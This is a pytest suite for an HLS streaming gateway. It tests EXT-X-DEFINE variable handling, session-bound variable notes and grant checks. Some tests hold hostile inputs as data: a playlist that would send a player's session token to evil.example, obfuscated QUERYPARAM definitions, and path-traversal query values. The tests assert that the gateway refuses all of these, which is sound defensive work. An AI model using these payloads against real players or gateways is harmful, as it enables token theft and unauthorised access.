"""EXT-X-DEFINE through the gateway: a media playlist imports what its multivariant playlist defines."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import quote

import pytest

from tests.scripted_origin import Origin, answer
from tests.service import Service, tiers_text

HLS = "application/vnd.apple.mpegurl"
MULTIVARIANT = b"""#EXTM3U
#EXT-X-DEFINE:NAME="dir",VALUE="segments"
#EXT-X-DEFINE:QUERYPARAM="q"
#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="audio.m3u8"
#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"
media.m3u8?lang=en
#EXT-X-SESSION-DATA:DATA-ID="x",URI="data.json"
"""
MEDIA = b"""#EXTM3U
#EXT-X-TARGETDURATION:4
#EXT-X-DEFINE:IMPORT="dir"
#EXT-X-DEFINE:IMPORT="q"
#EXT-X-DEFINE:QUERYPARAM="lang"
#EXTINF:4,
{$dir}/1.ts?q={$q}&l={$lang}
#EXT-X-ENDLIST
"""


@pytest.fixture(scope="module")
def origin() -> Iterator[Origin]:
    origin = Origin.start()
    origin.scripts["/v/main.m3u8"] = answer(MULTIVARIANT, 200, Content_Type=HLS)
    origin.scripts["/v/media.m3u8"] = origin.scripts["/v/audio.m3u8"] = answer(MEDIA, 200, Content_Type=HLS)
    origin.scripts["/v/segments/1.ts"] = answer(b"video", 200, Content_Type="video/mp2t")
    yield origin
    origin.stop()


@pytest.fixture(scope="module")
def service(origin: Origin, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    service = Service.start(tmp_path_factory.mktemp("gateway"), tiers_text(origin.url))
    yield service
    service.stop()


@pytest.fixture(scope="module")
def token(service: Service) -> dict[str, str]:
    return {"X-Session-Token": service.token(service.add_key("acme", "standard"))}


def lines(service: Service, path: str) -> list[str]:
    reply = service.get(path)
    assert reply.status == 200, reply.body
    return reply.body.decode().splitlines()


def start(service: Service, origin: Origin, token: dict[str, str]) -> list[str]:
    return service.media(f"{origin.url}/v/main.m3u8?q=a%2Bb", token).body.decode().splitlines()


def test_what_a_media_playlist_imports_leads_through_the_gateway(
    service: Service, origin: Origin, token: dict[str, str]
) -> None:
    main = start(service, origin, token)
    assert main[2] == '#EXT-X-DEFINE:NAME="q",VALUE="a+b"'
    segment = lines(service, main[5])[6]
    assert segment.startswith("/play/")
    assert service.get(segment).body == b"video"
    assert [path for _, path, _ in origin.asked[-2:]] == ["/v/media.m3u8?lang=en", "/v/segments/1.ts?q=a+b&l=en"]


def test_only_media_playlists_are_told_of_variables(service: Service, origin: Origin, token: dict[str, str]) -> None:
    main = start(service, origin, token)
    assert ["sluicegate.variables=" in line for line in main] == [False, False, False, True, False, True, False]
    assert len({line.partition("/play/")[2].partition("/")[0] for line in main if "/play/" in line}) == 1


def test_a_query_that_the_player_sees_is_left_to_it(service: Service, origin: Origin, token: dict[str, str]) -> None:
    main = start(service, origin, token)
    assert lines(service, main[5])[4] == '#EXT-X-DEFINE:QUERYPARAM="lang"'


@pytest.mark.parametrize("change", ["other-session", "other-playlist", "cut", "grant"])
def test_variables_that_were_noted_for_another_are_refused(
    service: Service, origin: Origin, token: dict[str, str], change: str
) -> None:
    main = start(service, origin, token)
    grant = main[5].split("/")[2]
    path, _, note = main[5].partition("sluicegate.variables=")
    if change == "other-session":
        other = {"X-Session-Token": service.token(service.add_key(change, "standard"))}
        note = start(service, origin, other)[5].partition("sluicegate.variables=")[2]
    if change == "other-playlist":
        note = main[3].partition("sluicegate.variables=")[2].partition('"')[0]
    if change == "cut":
        note = note[:-1]
    if change == "grant":
        note = grant
    reply = service.get(f"{path}sluicegate.variables={note}")
    assert (reply.status, reply.json["error"]) == (401, "Invalid or expired session token")


def test_a_note_opens_nothing(service: Service, origin: Origin, token: dict[str, str]) -> None:
    main = start(service, origin, token)
    note = main[5].partition("sluicegate.variables=")[2]
    assert service.get(f"/play/{note}/{origin.url.removeprefix('http://')}/v/media.m3u8").status == 401
    assert service.media(f"{origin.url}/v/main.m3u8", {"X-Session-Token": note}).status == 401


def test_more_variables_than_can_be_noted_are_an_error_that_says_so(
    service: Service, origin: Origin, token: dict[str, str]
) -> None:
    long = b'#EXT-X-DEFINE:NAME="l",VALUE="%s"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nm.m3u8\n' % (b"x" * 5000)
    origin.scripts["/v/long.m3u8"] = answer(b"#EXTM3U\n" + long, 200, Content_Type=HLS)
    reply = service.media(f"{origin.url}/v/long.m3u8", token)
    assert reply.status == 502
    assert "variables" in reply.json["detail"]


def test_a_playlist_cannot_make_a_player_carry_its_token_away(
    service: Service, origin: Origin, token: dict[str, str]
) -> None:
    lure = b'#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="token"\n#EXTINF:4,\nhttps://evil.example/?t={$token}\n{$token}.ts\n'
    origin.scripts["/v/lure.m3u8"] = answer(lure, 200, Content_Type=HLS)
    url = quote(f"{origin.url}/v/lure.m3u8", safe="")
    body = service.get(f"/api?url={url}&token={token['X-Session-Token']}").body.decode()
    assert "{$" not in body
    assert all(line.startswith(("#", "/play/")) for line in body.splitlines())


@pytest.mark.parametrize(
    "define",
    [
        '#EXT-X-DEFINE:QUERYPARAM="token"',
        '# a #EXT-X-DEFINE:QUERYPARAM="token"',
        '#EXT-X-DEFINE:A="b",QUERYPARAM ="token"',
        '#EXT-X-DEFINE:\ufeffQUERYPARAM\u3000="token"',
        "#EXT-X-DEFINE:QUERYPARAM=token",
        "#EXT-X-DEFINE:QUERYPARAM=token\u2028",
        '#EXT-X-DEFINE:NAME="x",VALUE="tok"\n#EXT-X-DEFINE:QUERYPARAM="{$x}en"',
    ],
)
def test_no_variable_is_ever_a_players_token(
    service: Service, origin: Origin, token: dict[str, str], define: str
) -> None:
    """hls.js takes for a reference what follows a duration without a comma, U+2028, or a tag within a comment."""
    origin.scripts["/v/lure.m3u8"] = answer(f"#EXTM3U\n{define}\n#EXTINF:4 https://evil.example/\n".encode(), 200)
    url = quote(f"{origin.url}/v/lure.m3u8", safe="")
    for address in (
        f"/api?url={url}&token={token['X-Session-Token']}",
        f"/api?token={token['X-Session-Token']}&url={url}",
    ):
        body = service.get(address).body.decode()
        assert "QUERYPARAM" in body
        assert not re.search(r"QUERYPARAM.*(token|\{\$)", body)


def test_a_token_of_the_origins_own_is_a_variable_like_any_other(
    service: Service, origin: Origin, token: dict[str, str]
) -> None:
    text = b'#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="token"\n#EXTINF:4,\n{$token}.ts\n'
    origin.scripts["/v/own.m3u8"] = answer(text, 200, Content_Type=HLS)
    address = f"{origin.url}/v/own.m3u8?token=abc"
    by_api = lines(service, f"/api?url={quote(address, safe='')}&token={token['X-Session-Token']}")
    assert by_api[1] == '#EXT-X-DEFINE:NAME="token",VALUE="abc"'
    by_grant = lines(service, granted(service, address, service.add_key("own", "standard")))
    assert by_grant[1] == '#EXT-X-DEFINE:QUERYPARAM="token"'
    assert by_api[3].endswith("/abc.ts")
    assert by_grant[3].endswith("/abc.ts")


SHAPED = """#EXTM3U
#EXT-X-TARGETDURATION:4
#EXT-X-DEFINE:QUERYPARAM="p"
#EXT-X-DEFINE:NAME="cdn",VALUE="https://*.example.com/x/1.ts?p={$p}"
#EXTINF:4,
{$p}/1.ts
#EXTINF:4,
n{$p}.ts
#EXTINF:4,
{$cdn}
#EXT-X-ENDLIST
"""


def granted(service: Service, url: str, key: str) -> str:
    reply = service.get(f"/api/grant?url={quote(url, safe='')}", {"X-API-Key": key})
    assert reply.status == 200, reply.body
    return str(reply.json["url"])


@pytest.fixture(scope="module")
def shaped(service: Service, origin: Origin) -> str:
    """Where a grant opens a directory, with playlists that put a field of their query into paths."""
    text = SHAPED.replace("https://*.example.com", origin.url)
    main = '#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="p"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nmedia.m3u8\n'
    origin.scripts["/f/alone.m3u8"] = answer(text.encode(), 200, Content_Type=HLS)
    origin.scripts["/f/media.m3u8"] = answer(text.replace("QUERYPARAM", "IMPORT").encode(), 200, Content_Type=HLS)
    origin.scripts["/f/main.m3u8"] = answer(main.encode(), 200, Content_Type=HLS)
    for path in ("/f/low/1.ts", "/f/n../../s/1.ts", "/f/n%2f..%2f..%2fs.ts", "/s/1.ts", "/x/1.ts", "/1.ts"):
        origin.scripts[path] = answer(b"video", 200, Content_Type="video/mp2t", Cache_Control="no-store")
    return granted(service, f"{origin.url}/f/main.m3u8", service.add_key("shaped", "standard"))


def segments(service: Service, shaped: str, value: str, *, imported: bool) -> list[str]:
    """What the media playlist names, asked for with a value for its field, or led to by one that was."""
    if imported:
        return lines(service, lines(service, f"{shaped}?p={value}")[3])[5:10:2]
    return lines(service, f"{shaped.replace('main', 'alone')}?p={value}")[5:10:2]


@pytest.mark.parametrize("imported", [False, True])
@pytest.mark.parametrize("value", ["/s", "..", "../s", "{other}/s", "%252fs", "x%252f..%252f..%252fs"])
def test_a_players_query_leads_nowhere_that_its_grant_does_not_open(
    service: Service, origin: Origin, shaped: str, value: str, *, imported: bool
) -> None:
    led, named, _ = segments(service, shaped, value.format(other=origin.url), imported=imported)
    assert service.get(led).status == 403
    assert service.get(named).body != b"video"


@pytest.mark.parametrize("imported", [False, True])
def test_a_players_query_may_name_what_its_grant_opens_and_be_told_to_any_origin(
    service: Service, origin: Origin, shaped: str, *, imported: bool
) -> None:
    led, _, elsewhere = segments(service, shaped, "low", imported=imported)
    assert [service.get(led).body, service.get(elsewhere).body] == [b"video", b"video"]
    assert [path for _, path, _ in origin.asked[-2:]] == ["/f/low/1.ts", "/x/1.ts?p=low"]


def test_who_may_ask_for_any_path_may_say_it_by_the_query(
    service: Service, origin: Origin, shaped: str, token: dict[str, str]
) -> None:
    alone = service.media(f"{origin.url}/f/alone.m3u8?p=/s", token).body.decode().splitlines()
    assert service.get(alone[5]).body == b"video"
